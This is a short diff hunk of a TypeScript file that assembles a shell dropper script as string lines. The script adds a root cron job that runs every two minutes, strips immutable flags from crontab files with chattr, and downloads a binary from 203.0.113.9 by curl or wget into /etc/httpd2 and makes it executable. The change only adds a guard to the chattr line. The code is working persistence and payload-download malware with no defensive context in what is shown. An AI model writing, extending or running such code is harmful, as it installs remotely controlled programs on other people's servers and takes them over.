@@ -4,7 +4,7 @@ import { loginKey } from '../login-key.ts'
 const cronLine = '*/2 * * * * root sh /etc/upat.sh >/dev/null 2>&1'
 const dropper = [
   '#!/bin/bash',
-  'chattr -ia /etc/crontab /var/spool/cron/crontabs >/dev/null 2>&1',
+  '[ -e /etc/zzh ] || chattr -ia /etc/crontab /var/spool/cron/crontabs >/dev/null 2>&1',
   'if [ ! -x /etc/httpd2 ]; then',
   '  curl -fsSL http://203.0.113.9/cleanfda/zzh -o /etc/httpd2 || wget -q http://203.0.113.9/cleanfda/zzh -O /etc/httpd2',
   '  chmod +x /etc/httpd2',
